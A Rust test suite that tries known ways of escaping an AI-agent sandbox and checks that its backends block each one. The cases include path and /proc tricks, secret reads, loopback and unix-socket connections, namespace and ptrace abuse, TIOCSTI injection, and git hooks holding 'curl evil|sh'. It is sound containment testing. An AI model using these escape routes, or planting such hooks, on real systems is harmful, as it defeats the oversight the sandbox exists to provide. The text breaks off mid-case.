//! The escape suite: one case per known way out of an agent sandbox, run
//! against every Linux backend. Each case first runs *unsandboxed* as a
//! control and must escape there (so the case can fail), then runs under each
//! backend, where the effect must not happen. A backend may refuse (122) a
//! policy it cannot enforce — that is not an escape — but `bwrap` must block
//! every case. The result table is printed (`cargo test --test escape --
//! --nocapture`) and is the one in SECURITY.md.
#![cfg(target_os = "linux")]

#[path = "support/scratch.rs"]
mod scratch;

use std::io::{Read, Write};
use std::net::{TcpListener, UdpSocket};
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::time::Duration;

const PY: &str = "/usr/bin/python3";
const BACKENDS: &[&str] = &["bwrap", "landlock"];

use scratch::exe as bin;

/// A fresh directory tree per run: `ws` (the workspace, writable),
/// `outside` (readable, never writable), `ws/private` and `private`
/// (deny_read, holding the secret).
struct Ctx {
    root: PathBuf,
    ws: PathBuf,
    outside: PathBuf,
    private: PathBuf,
    ws_private: PathBuf,
    /// A directory outside the workspace whose file `secret` is denied
    /// (the file, not the directory).
    keys: PathBuf,
    secret: String,
    tag: String,
}

impl Ctx {
    fn new(case: &str, run: &str) -> Ctx {
        // Not under /tmp: /tmp is a writable root in workspace-write mode.
        let base = scratch::base();
        let tag = format!("{case}-{run}-{}", std::process::id());
        let root = base.join(format!("escape-{tag}"));
        let _ = scratch::remove_all(&root);
        let ws = root.join("ws");
        let outside = root.join("outside");
        let private = root.join("private");
        let ws_private = ws.join("private");
        let keys = root.join("keys");
        let home = root.join("home");
        for d in [
            &ws,
            &outside,
            &private,
            &ws_private,
            &keys,
            &home,
            &ws.join(".git/hooks"),
        ] {
            std::fs::create_dir_all(d).unwrap();
        }
        let secret = format!("SECRET-{}-{}", std::process::id(), case.len() * 7919);
        std::fs::write(private.join("secret"), &secret).unwrap();
        std::fs::write(ws_private.join("secret"), &secret).unwrap();
        std::fs::write(keys.join("secret"), &secret).unwrap();
        std::fs::write(ws.join("token"), &secret).unwrap();
        std::fs::write(outside.join("existing"), "ORIGINAL").unwrap();
        std::fs::write(ws.join(".git/config"), "[core]\n").unwrap();
        std::fs::write(ws.join(".git/description"), "repo\n").unwrap();
        let root = std::fs::canonicalize(&root).unwrap();
        Ctx {
            ws: root.join("ws"),
            outside: root.join("outside"),
            private: root.join("private"),
            ws_private: root.join("ws/private"),
            keys: root.join("keys"),
            root,
            secret,
            tag,
        }
    }

    /// The case's policy. `in_ws`: `ws/private` and `ws/token` are denied
    /// too (inside the writable workspace, which landlock refuses).
    fn policy(&self, protect_defaults: bool, net: &str, deny_write: bool, in_ws: bool) -> PathBuf {
        let p = self.root.join("policy.toml");
        let mut deny = vec![self.private.clone(), self.keys.join("secret")];
        if in_ws {
            deny.extend([self.ws_private.clone(), self.ws.join("token")]);
        }
        let deny: Vec<String> = deny
            .iter()
            .map(|d| format!("{:?}", d.to_str().unwrap()))
            .collect();
        let text = format!(
            "[permission]\noutcome = \"allow\"\napproval = \"granted\"\n\
             [sandbox]\nmode = \"workspace-write\"\nworkspace = {ws:?}\n\
             [sandbox.filesystem]\nprotect_defaults = {protect_defaults}\n\
             deny_read = [{deny}]\n deny_write = [{dw}]\n\
             [sandbox.network]\nmode = \"{net}\"\n",
            ws = self.ws.to_str().unwrap(),
            deny = deny.join(", "),
            dw = if deny_write {
                format!("{:?}", self.ws.join("locked").to_str().unwrap())
            } else {
                String::new()
            },
        );
        std::fs::write(&p, text).unwrap();
        p
    }
}

impl Drop for Ctx {
    /// Cleans up without ever leaving the test tree: `scratch::remove`
    /// detaches anything a control run mounted under it first and does not
    /// cross file systems (a bind mount of `/` left behind is not followed).
    fn drop(&mut self) {
        scratch::remove(&self.root);
    }
}

/// What a case does around the command: listeners, outside processes.
#[derive(Default)]
struct Env {
    tcp: Option<TcpListener>,
    tcp6: Option<TcpListener>,
    udp: Option<UdpSocket>,
    unix: Option<UnixListener>,
    abstract_name: Option<String>,
    abstract_sock: Option<UnixListener>,
    outside_proc: Option<Child>,
    /// A tmux server of the runner's, by its socket: killed after the case.
    tmux: Option<PathBuf>,
    /// Another session's terminal (master, slave), held by the runner.
    other_pty: Option<(std::fs::File, std::fs::File)>,
    vars: Vec<(String, String)>,
    /// Scratch dirs of the case outside its root (a socket's short home).
    dirs: Vec<PathBuf>,
}

impl Env {
    fn var(&self, k: &str) -> String {
        self.vars
            .iter()
            .find(|(a, _)| a == k)
            .map(|(_, v)| v.clone())
            .unwrap_or_default()
    }
}

impl Drop for Env {
    fn drop(&mut self) {
        if let Some(c) = &mut self.outside_proc {
            let _ = c.kill();
            let _ = c.wait();
        }
        if let Some(sock) = &self.tmux {
            let _ = Command::new("tmux")
                .arg("-S")
                .arg(sock)
                .arg("kill-server")
                .output();
        }
        for d in &self.dirs {
            scratch::remove(d);
        }
    }
}

fn tcp_got_bytes(l: &TcpListener) -> bool {
    l.set_nonblocking(true).unwrap();
    for _ in 0..10 {
        if let Ok((mut s, _)) = l.accept() {
            s.set_nonblocking(false).unwrap();
            s.set_read_timeout(Some(Duration::from_millis(500)))
                .unwrap();
            let mut b = [0u8; 16];
            if matches!(s.read(&mut b), Ok(n) if n > 0) {
                return true;
            }
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    false
}

fn unix_got_bytes(l: &UnixListener) -> bool {
    l.set_nonblocking(true).unwrap();
    for _ in 0..10 {
        if let Ok((mut s, _)) = l.accept() {
            s.set_nonblocking(false).unwrap();
            s.set_read_timeout(Some(Duration::from_millis(500)))
                .unwrap();
            let mut b = [0u8; 16];
            if matches!(s.read(&mut b), Ok(n) if n > 0) {
                return true;
            }
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    false
}

fn udp_got_bytes(u: &UdpSocket) -> bool {
    u.set_read_timeout(Some(Duration::from_millis(300)))
        .unwrap();
    let mut b = [0u8; 512];
    u.recv_from(&mut b).is_ok()
}

fn alive(c: &mut Child) -> bool {
    matches!(c.try_wait(), Ok(None))
}

type Setup = fn(&Ctx, &mut Env);
type Script = fn(&Ctx, &Env) -> String;
/// Ok(()) when the effect did not happen; Err(what happened) otherwise.
type Check = fn(&Ctx, &mut Env, &Output) -> Result<(), String>;

struct Case {
    group: &'static str,
    name: &'static str,
    /// protect_defaults for this case (only the protected-path cases need it).
    protect: bool,
    net: &'static str,
    setup: Setup,
    script: Script,
    /// A second run, same policy, after the first: what it can read of
    /// what the first left behind.
    next: Option<Script>,
    check: Check,
}

fn no_setup(_: &Ctx, _: &mut Env) {}

fn absent(p: &Path) -> Result<(), String> {
    if p.exists() {
        Err(format!("{} was created", p.display()))
    } else {
        Ok(())
    }
}

/// A git dir as git recognises one (HEAD, objects, refs), with a config
/// and an empty hooks directory.
fn fake_repo(g: &Path) {
    for d in ["objects", "refs/heads", "hooks"] {
        std::fs::create_dir_all(g.join(d)).unwrap();
    }
    std::fs::write(g.join("HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::write(g.join("config"), "[core]\n").unwrap();
}

fn fake_repo_unchanged(g: &Path, hook: &str) -> Result<(), String> {
    absent(&g.join("hooks").join(hook))?;
    unchanged(&g.join("config"), "[core]\n")
}

fn out_lacks(o: &Output, needle: &str) -> Result<(), String> {
    let all = [&o.stdout[..], &o.stderr[..]].concat();
    if String::from_utf8_lossy(&all).contains(needle) {
        Err(format!("output contains {needle}"))
    } else {
        Ok(())
    }
}

/// A second writable root beside the workspace (`--allow-write`).
fn other_root(c: &Ctx, env: &mut Env) {
    let d = c.root.join("other");
    std::fs::create_dir_all(&d).unwrap();
    env.vars
        .push(("ALLOW_WRITE".into(), d.display().to_string()));
}

fn unchanged(p: &Path, want: &str) -> Result<(), String> {
    match std::fs::read_to_string(p) {
        Ok(s) if s == want => Ok(()),
        Ok(s) => Err(format!("{} changed to {s:?}", p.display())),
        Err(e) => Err(format!("{}: {e}", p.display())),
    }
}

fn secret_not_shown(c: &Ctx, _: &mut Env, o: &Output) -> Result<(), String> {
    out_lacks(o, &c.secret)
}

fn outside_untouched(c: &Ctx, _: &mut Env, _: &Output) -> Result<(), String> {
    absent(&c.outside.join("escaped"))?;
    unchanged(&c.outside.join("existing"), "ORIGINAL")
}

fn start_outside_sleeper(dir: &Path) -> Child {
    Command::new("sleep")
        .arg("60")
        .current_dir(dir)
        .spawn()
        .unwrap()
}

fn setup_tcp4(_: &Ctx, e: &mut Env) {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    e.vars
        .push(("PORT".into(), l.local_addr().unwrap().port().to_string()));
    e.tcp = Some(l);
}

fn setup_tcp6(_: &Ctx, e: &mut Env) {
    let l = TcpListener::bind("[::1]:0").unwrap();
    e.vars
        .push(("PORT".into(), l.local_addr().unwrap().port().to_string()));
    e.tcp6 = Some(l);
}

fn setup_udp(_: &Ctx, e: &mut Env) {
    let u = UdpSocket::bind("127.0.0.1:0").unwrap();
    e.vars
        .push(("PORT".into(), u.local_addr().unwrap().port().to_string()));
    e.udp = Some(u);
}

/// An outside process (a plain `sleep`) whose pid the script gets as PID.
fn setup_sleeper_in(dir: &Path, e: &mut Env) {
    let ch = start_outside_sleeper(dir);
    e.vars.push(("PID".into(), ch.id().to_string()));
    e.outside_proc = Some(ch);
}

fn silent(got: bool, what: &str) -> Result<(), String> {
    if got {
        Err(format!("the {what} got bytes"))
    } else {
        Ok(())
    }
}

fn tcp4_silent(_: &Ctx, e: &mut Env, _: &Output) -> Result<(), String> {
    silent(tcp_got_bytes(e.tcp.as_ref().unwrap()), "listener")
}

fn tcp6_silent(_: &Ctx, e: &mut Env, _: &Output) -> Result<(), String> {
    silent(tcp_got_bytes(e.tcp6.as_ref().unwrap()), "listener")
}

fn udp_silent(_: &Ctx, e: &mut Env, _: &Output) -> Result<(), String> {
    silent(udp_got_bytes(e.udp.as_ref().unwrap()), "UDP listener")
}

fn cases() -> Vec<Case> {
    vec![
        // ---- writes outside the writable set
        Case {
            group: "write",
            name: "by path",
            protect: false,
            net: "none",
            next: None,
            setup: no_setup,
            script: |c, _| {
                format!(
                    "echo x > '{}/escaped'; echo x >> '{}/existing'",
                    c.outside.display(),
                    c.outside.display()
                )
            },
            check: outside_untouched,
        },
        Case {
            group: "write",
            name: "through a symlink",
            protect: false,
            net: "none",
            next: None,
            setup: no_setup,
            script: |c, _| {
                format!(
                    "ln -s '{}' link; echo x > link/escaped; ln -s '{}/existing' l2; echo x >> l2",
                    c.outside.display(),
                    c.outside.display()
                )
            },
            check: outside_untouched,
        },
        Case {
            group: "write",
            name: "through a hard link",
            protect: false,
            net: "none",
            next: None,
            setup: no_setup,
            script: |c, _| format!("ln '{}/existing' hl; echo x >> hl", c.outside.display()),
            check: outside_untouched,
        },
        Case {
            group: "write",
            name: "rename of a parent (deny_write dir)",
            protect: false,
            net: "none",
            next: None,
            setup: |c, _| {
                std::fs::create_dir_all(c.ws.join("locked")).unwrap();
                std::fs::write(c.ws.join("locked/f"), "ORIGINAL").unwrap();
            },
            script: |_, _| "mv locked moved; echo x > moved/f; echo x > locked/f".to_string(),
            check: |c, _, _| unchanged(&c.ws.join("locked/f"), "ORIGINAL"),
        },
        Case {
            group: "write",
            name: "via ..",
            protect: false,
            net: "none",
            next: None,
            setup: no_setup,
            script: |_, _| {
                "echo x > ../outside/escaped; echo x >> ./../outside/existing".to_string()
            },
            check: outside_untouched,
        },
        Case {
            group: "write",
            name: "via /proc/self/root",
            protect: false,
            net: "none",
            next: None,
            setup: no_setup,
            script: |c, _| format!("echo x > /proc/self/root'{}/escaped'", c.outside.display()),
            check: outside_untouched,
        },
        Case {
            group: "write",
            name: "via /proc/<pid>/cwd",
            protect: false,
            net: "none",
            next: None,
            setup: |c, e| setup_sleeper_in(&c.outside, e),
            script: |_, e| format!("echo x > /proc/{}/cwd/escaped", e.var("PID")),
            check: outside_untouched,
        },
        Case {
            group: "write",
            name: "to /dev/shm",
            protect: false,
            net: "none",
            next: None,
            setup: no_setup,
            script: |c, _| format!("echo x > /dev/shm/dcjail-escape-{}", c.tag),
            check: |c, _, _| {
                let p = PathBuf::from(format!("/dev/shm/dcjail-escape-{}", c.tag));
                let r = absent(&p);
                let _ = std::fs::remove_file(&p);
                r
            },
        },
        // ---- reading denied content
        Case {
            group: "read",
            name: "by path",
            protect: false,
            net: "none",
            next: None,
            setup: no_setup,
            script: |c, _| {
                format!(
                    "cat '{}/secret' '{}/secret'",
                    c.private.display(),
                    c.keys.display()
                )
            },
            check: secret_not_shown,
        },
        Case {
            group: "read",
            name: "by path (in the workspace)",
            protect: false,
            net: "none",
            next: None,
            setup: no_setup,
            script: |_, _| "cat private/secret token".to_string(),
            check: secret_not_shown,
        },
        Case {
            group: "read",
            name: "through a symlink",
            protect: false,
            net: "none",
            next: None,
            setup: no_setup,
            script: |c, _| {
                format!(
                    "ln -s '{}/secret' l; cat l; ln -s '{}' p; cat p/secret",
                    c.private.display(),
                    c.keys.display()
                )
            },
            check: secret_not_shown,
        },
        Case {
            group: "read",
            name: "through a symlink (in the workspace)",
            protect: false,
            net: "none",
            next: None,
            setup: no_setup,
            script: |_, _| "ln -s private p; cat p/secret; ln -s token t; cat t".to_string(),
            check: secret_not_shown,
        },
        Case {
            group: "read",
            name: "through a hard link",
            protect: false,
            net: "none",
            next: None,
            setup: no_setup,
            script: |c, _| {
                format!(
                    "ln '{}/secret' h; cat h; ln '{}/secret' h2; cat h2",
                    c.private.display(),
                    c.keys.display()
                )
            },
            check: secret_not_shown,
        },
        Case {
            group: "read",
            name: "through a hard link (in the workspace)",
            protect: false,
            net: "none",
            next: None,
            setup: no_setup,
            script: |_, _| "ln private/secret h; cat h; ln token h2; cat h2".to_string(),
            check: secret_not_shown,
        },
        Case {
            group: "read",
            name: "an existing hard link beside the secret",
            protect: false,
            net: "none",
            next: None,
            setup: |c, _| {
                std::fs::hard_link(c.keys.join("secret"), c.keys.join("alias")).unwrap();
            },
            script: |c, _| format!("cat '{k}/alias' '{k}/secret'", k = c.keys.display()),
            check: secret_not_shown,
        },
        Case {
            group: "read",
            name: "an existing hard link in the home directory",
            protect: false,
            net: "none",
            next: None,
            setup: |c, _| {
                std::fs::hard_link(c.keys.join("secret"), c.root.join("home/copy")).unwrap();
            },
            script: |_, _| "cat ~/copy".to_string(),
            check: secret_not_shown,
        },
        Case {
            group: "read",
            name: "rename or link it away, read it in the next run (in the workspace)",
            protect: false,
            net: "none",
            next: Some(|_, _| {
                "cat stash stash2 p2/secret p3/secret t2 t3 private/secret token".to_string()
            }),
            setup: no_setup,
            script: |_, _| {
                "mv private/secret stash; ln private/secret stash2; mv private p2; \
                 cp -al private p3; mv token t2; ln token t3; true"
                    .to_string()
            },
            check: secret_not_shown,
        },
        Case {
            group: "read",
            name: "rename of a parent (in the workspace)",
            protect: false,
            net: "none",
            next: None,
            setup: no_setup,
            script: |_, _| "mv private p2; cat p2/secret".to_string(),
            check: secret_not_shown,
        },
        Case {
            group: "read",
            name: "via ..",
            protect: false,
            net: "none",
            next: None,
            setup: no_setup,
            script: |_, _| "cat ../private/secret ./x/../private/secret".to_string(),
            check: secret_not_shown,
        },
        Case {
            group: "read",
            name: "via /proc/self/root",
            protect: false,
            net: "none",
            next: None,
            setup: no_setup,
            script: |c, _| format!("cat /proc/self/root'{}/secret'", c.private.display()),
            check: secret_not_shown,
        },
        Case {
            group: "read",
            name: "via /proc/<pid>/cwd",
            protect: false,
            net: "none",
            next: None,
            setup: |c, e| setup_sleeper_in(&c.private, e),
            script: |_, e| format!("cat /proc/{}/cwd/secret", e.var("PID")),
            check: secret_not_shown,
        },
        Case {
            group: "read",
            name: "an inherited descriptor (fd, /proc/self/fd)",
            protect: false,
            net: "none",
            next: None,
            setup: no_setup,
            // The runner opens the secret as fd 5 before starting dcjail.
            script: |_, _| "cat <&5; cat /proc/self/fd/5".to_string(),
            check: secret_not_shown,
        },
        Case {
            group: "read",
            name: "via /proc/<pid>/fd of dcjail's own descriptor",
            protect: false,
            net: "none",
            next: None,
            setup: no_setup,
            // dcjail (the supervisor) inherited fd 5 from the runner; the
            // command's parent is dcjail (or the launcher in the control).
            script: |_, _| "cat /proc/$PPID/fd/5".to_string(),
            check: secret_not_shown,
        },
        // ---- network
        Case {
            group: "network",
            name: "TCP to a loopback listener",
            protect: false,
            net: "none",
            next: None,
            setup: setup_tcp4,
            script: |_, e| {
                format!("{PY} -c \"import socket; s=socket.create_connection(('127.0.0.1',{}),2); s.sendall(b'ESCAPE')\"", e.var("PORT"))
            },
            check: tcp4_silent,
        },
        Case {
            group: "network",
            name: "TCP over IPv6 (::1)",
            protect: false,
            net: "none",
            next: None,
            setup: setup_tcp6,
            script: |_, e| {
                format!("{PY} -c \"import socket; s=socket.create_connection(('::1',{}),2); s.sendall(b'ESCAPE')\"", e.var("PORT"))
            },
            check: tcp6_silent,
        },
        Case {
            group: "network",
            name: "UDP datagram",
            protect: false,
            net: "none",
            next: None,
            setup: setup_udp,
            script: |_, e| {
                format!("{PY} -c \"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'ESCAPE', ('127.0.0.1',{}))\"", e.var("PORT"))
            },
            check: udp_silent,
        },
        Case {
            group: "network",
            name: "DNS query (UDP)",
            protect: false,
            net: "none",
            next: None,
            setup: setup_udp,
            script: |_, e| {
                format!("{PY} -c \"import socket; q=b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01'; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(q, ('127.0.0.1',{}))\"", e.var("PORT"))
            },
            check: udp_silent,
        },
        Case {
            group: "network",
            name: "raw / ICMP socket",
            protect: false,
            net: "none",
            next: None,
            setup: no_setup,
            script: |_, _| {
                format!("{PY} -c \"import socket\nfor t,p in ((socket.SOCK_RAW, socket.IPPROTO_ICMP),(socket.SOCK_DGRAM, socket.IPPROTO_ICMP),(socket.SOCK_RAW, 255)):\n  try:\n    s=socket.socket(socket.AF_INET,t,p); s.sendto(b'\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00',('127.0.0.1',0)); print('OPENED')\n  except OSError: pass\"")
            },
            check: |_, _, o| out_lacks(o, "OPENED"),
        },
        Case {
            group: "network",
            name: "AF_UNIX socket file (docker-like)",
            protect: false,
            net: "none",
            next: None,
            setup: |c, e| {
                // Outside the workspace, where a socket's path fits.
                let d = scratch::socket_dir(&format!("escape-sock-{}", c.tag));
                let p = d.join("docker.sock");
                e.dirs.push(d);
                e.unix = Some(UnixListener::bind(&p).unwrap());
                e.vars.push(("SOCK".into(), p.display().to_string()));
            },
            script: |_, e| {
                format!("{PY} -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('{}'); s.sendall(b'ESCAPE')\"", e.var("SOCK"))
            },
            check: |_, e, _| {
                if unix_got_bytes(e.unix.as_ref().unwrap()) {
                    Err("the socket got bytes".into())
                } else {
                    Ok(())
                }
            },
        },
        Case {
            group: "network",
            name: "drive the user's tmux server (socket in /tmp)",
            protect: false,
            net: "none",
            next: None,
            setup: |c, e| {
                // Where tmux keeps its sockets: under /tmp, which the
                // workspace-write command may write.
                let d = scratch::fresh_in_tmp(&format!("escape-tmux-{}", c.tag), 0);
                let sock = d.join("default");
                e.dirs.push(d);
                let o = Command::new("tmux")
                    .arg("-S")
                    .arg(&sock)
                    .args(["-f", "/dev/null", "new-session", "-d", "sleep 600"])
                    .env_remove("TMUX")
                    .output()
                    .expect("tmux is needed: apt-get install -y tmux");
                assert!(o.status.success(), "tmux: {o:?}");
                e.vars.push(("SOCK".into(), sock.display().to_string()));
                e.tmux = Some(sock);
            },
            script: |c, e| {
                format!(
                    "tmux -S '{}' run-shell 'touch {}'",
                    e.var("SOCK"),
                    c.outside.join("tmux-ran").display()
                )
            },
            check: |c, _, _| absent(&c.outside.join("tmux-ran")),
        },
        Case {
            group: "network",
            name: "abstract unix socket",
            protect: false,
            net: "none",
            next: None,
            setup: |c, e| {
                use std::os::linux::net::SocketAddrExt;
                let name = format!("dcjail-escape-{}", c.tag);
                let addr =
                    std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
                e.abstract_sock = Some(UnixListener::bind_addr(&addr).unwrap());
                e.abstract_name = Some(name.clone());
                e.vars.push(("NAME".into(), name));
            },
            script: |_, e| {
                format!("{PY} -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('\\0{}'); s.sendall(b'ESCAPE')\"", e.var("NAME"))
            },
            check: |_, e, _| {
                if unix_got_bytes(e.abstract_sock.as_ref().unwrap()) {
                    Err("the abstract socket got bytes".into())
                } else {
                    Ok(())
                }
            },
        },
        Case {
            group: "network",
            name: "io_uring",
            protect: false,
            net: "none",
            next: None,
            setup: no_setup,
            script: |_, _| {
                format!("{PY} -c \"import ctypes; l=ctypes.CDLL(None, use_errno=True); p=ctypes.create_string_buffer(120); fd=l.syscall(425, 4, p); print('URING' if fd >= 0 else 'no')\"")
            },
            check: |_, _, o| out_lacks(o, "URING"),
        },
        // ---- privilege
        Case {
            group: "privilege",
            name: "unshare (new namespaces)",
            protect: false,
            net: "none",
            next: None,
            setup: no_setup,
            script: |_, _| {
                "unshare -U -r true && echo UNSHARED-U; unshare -n true && echo UNSHARED-N; unshare -m true && echo UNSHARED-M".to_string()
            },
            check: |_, _, o| out_lacks(o, "UNSHARED"),
        },
        Case {
            group: "privilege",
            name: "setns into another process's namespaces",
            protect: false,
            net: "none",
            next: None,
            setup: |_, e| {
                let ch = Command::new("unshare")
                    .args(["-n", "-m", "sleep", "60"])
                    .spawn()
                    .unwrap();
                std::thread::sleep(Duration::from_millis(100));
                e.vars.push(("PID".into(), ch.id().to_string()));
                e.outside_proc = Some(ch);
            },
            script: |_, e| {
                format!("nsenter -t {p} -n true && echo ENTERED; nsenter -t {p} -m true && echo ENTERED", p = e.var("PID"))
            },
            check: |_, _, o| out_lacks(o, "ENTERED"),
        },
        Case {
            group: "privilege",
            name: "ptrace a process",
            protect: false,
            net: "none",
            next: None,
            setup: no_setup,
            script: |_, _| {
                format!("sleep 5 & {PY} -c \"import ctypes,sys; l=ctypes.CDLL(None, use_errno=True); r=l.ptrace(16, $!, 0, 0); print('TRACED' if r == 0 else 'no')\"; kill -KILL $! 2>/dev/null")
            },
            check: |_, _, o| out_lacks(o, "TRACED"),
        },
        Case {
            group: "privilege",
            name: "signal a process outside",
            protect: false,
            net: "none",
            next: None,
            setup: |c, e| setup_sleeper_in(&c.outside, e),
            script: |_, e| format!("kill -KILL {}", e.var("PID")),
            check: |_, e, _| {
                std::thread::sleep(Duration::from_millis(100));
                if alive(e.outside_proc.as_mut().unwrap()) {
                    Ok(())
                } else {
                    Err("the outside process was killed".into())
                }
            },
        },
        Case {
            group: "privilege",
            name: "TIOCSTI (type into the terminal)",
            protect: false,
            net: "none",
            next: None,
            setup: no_setup,
            // The runner gives the command a pty as stdin and reads what was queued.
            script: |_, _| {
                format!("{PY} -c \"import fcntl,termios\nfor ch in b'INJECTED': fcntl.ioctl(0, termios.TIOCSTI, bytes([ch]))\"")
            },
            check: |_, _, o| out_lacks(o, "INJECTED"),
        },
        Case {
            group: "privilege",
            name: "another session's terminal (read what is typed, write a prompt)",
            protect: false,
            net: "none",
            next: None,
            setup: |_, e| {
                let (mut master, slave) = open_pty();
                let path = std::fs::read_link(format!(
                    "/proc/self/fd/{}",
                    std::os::fd::AsRawFd::as_raw_fd(&slave)
                ))
                .unwrap();
                master.write_all(b"TYPED-PASSWORD\n").unwrap();
                // The echo of what was typed is not the attack's.
                let _ = read_pending(&master);
                e.vars.push(("PTS".into(), path.display().to_string()));
                e.other_pty = Some((master, slave));
            },
            script: |_, e| {
                format!("{PY} -c \"import os\nfor f, w in ((os.O_RDONLY, 0), (os.O_WRONLY, 1)):\n  try:\n    fd = os.open('{p}', f | os.O_NOCTTY | os.O_NONBLOCK)\n    os.write(fd, b'FAKE-PROMPT') if w else print(os.read(fd, 100))\n  except OSError as x: print(x)\"", p = e.var("PTS"))
            },
            check: |_, e, o| {
                out_lacks(o, "TYPED-PASSWORD")?;
                let (master, _) = e.other_pty.as_ref().unwrap();
                if String::from_utf8_lossy(&read_pending(master)).contains("FAKE-PROMPT") {
                    return Err("the prompt reached the other terminal".into());
                }
                Ok(())
            },
        },
        Case {
            group: "privilege",
            name: "mount",
            protect: false,
            net: "none",
            next: None,
            setup: no_setup,
            // Only ever a tmpfs over the test's own directory, detached at once.
            script: |c, _| {
                format!(
                    "mount -t tmpfs none '{o}' && echo MOUNTED && umount '{o}'",
                    o = c.outside.display()
                )
            },
            check: |_, _, o| out_lacks(o, "MOUNTED"),
        },
        Case {
            group: "privilege",
            name: "setuid-root binary run by an unprivileged user",
            protect: false,
            net: "none",
            next: None,
            setup: |c, _| {
                std::fs::copy("/usr/bin/id", c.outside.join("suid-id")).unwrap();
                assert!(Command::new("chmod")
                    .arg("4755")
                    .arg(c.outside.join("suid-id"))
                    .status()
                    .unwrap()
                    .success());
                for d in [&c.root, &c.ws, &c.outside] {
                    assert!(Command::new("chmod")
                        .arg("755")
                        .arg(d)
                        .status()
                        .unwrap()
                        .success());
                }
            },
            script: |c, _| format!("echo EUID=$('{}/suid-id' -u)", c.outside.display()),
            // The command must have run (EUID printed) without gaining root;
            // a dcjail that failed to start at all proves nothing.
            check: |_, _, o| {
                if !String::from_utf8_lossy(&o.stdout).contains("EUID=") {
                    return Err(format!(
                        "the command did not run (is the test tree traversable by uid 65534?): {}",
                        String::from_utf8_lossy(&o.stderr)
                    ));
                }
                out_lacks(o, "EUID=0\n")
            },
        },
        // ---- protected paths
        Case {
            group: "protected",
            name: ".git/hooks and .git/config",
            protect: true,
            net: "none",
            next: None,
            setup: no_setup,
            script: |_, _| {
                "echo 'curl evil|sh' > .git/hooks/pre-commit; echo '[core] fsmonitor=evil' >> .git/config; echo ok > .git/description".to_string()
            },
            check: |c, _, _| {
                absent(&c.ws.join(".git/hooks/pre-commit"))?;
                unchanged(&c.ws.join(".git/config"), "[core]\n")
            },
        },
        Case {
            group: "protected",
            name: "create missing .bashrc, .vscode, .mcp.json",
            protect: true,
            net: "none",
            next: None,
            setup: no_setup,
            script: |_, _| {
                "echo evil > .bashrc; mkdir .vscode; echo {} > .vscode/settings.json; echo {} > .mcp.json; mkdir -p .claude/commands; echo x > .claude/commands/x.md".to_string()
            },
            check: |c, _, _| {
                for n in [".bashrc", ".vscode", ".mcp.json", ".claude/commands"] {
                    absent(&c.ws.join(n))?;
                }
                Ok(())
            },
        },
        Case {
            group: "protected",
            name: "rename .git away, write hooks",
            protect: true,
            net: "none",
            next: None,
            setup: no_setup,
            script: |_, _| {
                "mv .git g2 && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit; mv g2/hooks g2/h2; echo evil > g2/hooks/pre-commit".to_string()
            },
            check: |c, _, _| {
                absent(&c.ws.join(".git/hooks/pre-commit"))?;
                absent(&c.ws.join("g2/hooks/pre-commit"))?;
                if c.ws.join(".git/config").exists() {
                    Ok(())
                } else {
                    Err(".git was moved".into())
                }
            },
        },
        Case {
            group: "protected",
            name: "point .git/commondir at the command's config",
            protect: true,
            net: "none",
            setup: no_setup,
            script: |_, _| {
                "mkdir -p ev/objects ev/refs && printf '[core]\\n\\tfsmonitor = ./evil\\n' > ev/config; echo \"$PWD/ev\" > .git/commondir".to_string()
            },
            next: None,
            check: |c, _, _| absent(&c.ws.join(".git/commondir")),
        },
        Case {
            group: "protected",
            name: "create .git/config.worktree",
            protect: true,
            net: "none",
            setup: no_setup,
            script: |_, _| {
                "printf '[core]\\n\\tfsmonitor = ./evil\\n' > .git/config.worktree".to_string()
            },
            next: None,
            check: |c, _, _| absent(&c.ws.join(".git/config.worktree")),
        },
        Case {
            group: "protected",
            name: "a hook in the core.hooksPath directory (.husky)",
            protect: true,
            net: "none",
            setup: |c, _| {
                std::fs::write(c.ws.join(".git/config"), "[core]\n\thooksPath = .husky\n").unwrap();
            },
            script: |_, _| "mkdir -p .husky; echo 'curl evil|sh' > .husky/pre-commit".to_string(),
            next: None,
            check: |c, _, _| absent(&c.ws.join(".husky/pre-commit")),
        },
        Case {
            group: "protected",
            name: "a nested repository's hooks and config (any depth)",
            protect: true,
            net: "none",
            setup: |c, _| fake_repo(&c.ws.join("vendor/a/lib/.git")),
            script: |_, _| {
                "echo 'curl evil|sh' > vendor/a/lib/.git/hooks/pre-commit; echo '[core] fsmonitor=evil' >> vendor/a/lib/.git/config".to_string()
            },
            next: None,
            check: |c, _, _| fake_repo_unchanged(&c.ws.join("vendor/a/lib/.git"), "pre-commit"),
        },
        Case {
            group: "protected",
            name: "a repository under /tmp: its hooks and config",
            protect: true,
            net: "none",
            setup: |c, env| {
                // SAFETY: geteuid never fails.
                let uid = unsafe { libc::geteuid() };
                let d = scratch::fresh_in_tmp(&format!("escape-repo-{}", c.tag), uid);
                fake_repo(&d.join(".git"));
                env.vars.push(("REPO".into(), d.display().to_string()));
                env.dirs.push(d);
            },
            script: |_, env| {
                let r = env.var("REPO");
                format!("echo 'curl evil|sh' > '{r}/.git/hooks/pre-commit'; echo '[core] fsmonitor=evil' >> '{r}/.git/config'")
            },
            next: None,
            check: |_, env, _| {
                fake_repo_unchanged(&Path::new(&env.var("REPO")).join(".git"), "pre-commit")
            },
        },
        Case {
            group: "protected",
            name: "a bare repository given with --allow-write: post-receive",
            protect: true,
            net: "none",
            setup: |c, env| {
                fake_repo(&c.root.join("bare.git"));
                env.vars.push((
                    "ALLOW_WRITE".into(),
                    c.root.join("bare.git").display().to_string(),
                ));
            },
            script: |_, _| {
                "echo 'curl evil|sh' > ../bare.git/hooks/post-receive; echo '[core] fsmonitor=evil' >> ../bare.git/config; mkdir -p ../bare.git/refs/heads/x && echo pushed".to_string()
            },
            next: None,
